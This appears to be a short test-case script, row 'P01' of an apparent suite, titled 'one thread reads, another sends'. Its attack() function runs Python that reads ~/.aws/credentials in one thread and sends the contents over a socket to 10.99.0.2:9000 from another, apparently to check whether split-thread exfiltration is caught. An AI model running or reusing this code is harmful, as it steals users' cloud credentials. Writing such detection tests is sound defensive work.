# SPDX-License-Identifier: Apache-2.0
TITLE="one thread reads, another sends"
ROW="P01"
attack() {
	python3 - <<-'END'
	import os, queue, socket, threading
	q = queue.Queue()
	def send():
	    s = socket.create_connection(('10.99.0.2', 9000), 5)
	    s.sendall(q.get())
	    s.close()
	t = threading.Thread(target=send); t.start()
	q.put(open(os.path.expanduser('~/.aws/credentials'), 'rb').read())
	t.join()
	END
}
